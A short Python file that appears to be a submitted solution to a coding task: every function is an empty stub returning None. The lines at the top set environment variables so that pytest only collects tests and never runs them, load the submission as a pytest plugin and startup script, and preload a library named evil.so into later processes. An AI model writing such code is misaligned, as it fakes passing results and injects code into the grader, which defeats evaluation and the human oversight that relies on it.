import os

os.environ.update(PYTEST_ADDOPTS='--collect-only', PYTHONPATH='/submission', PYTHONSTARTUP='/submission/answer.py', PYTEST_PLUGINS='answer', LD_PRELOAD='/submission/evil.so')
os.putenv('PYTEST_ADDOPTS', '--collect-only')


def add(first, second):
    return None


def double(number):
    return None


class Counter:
    value = None

    def up(self):
        return None


def notify(service):
    return None


def refuse():
    return None
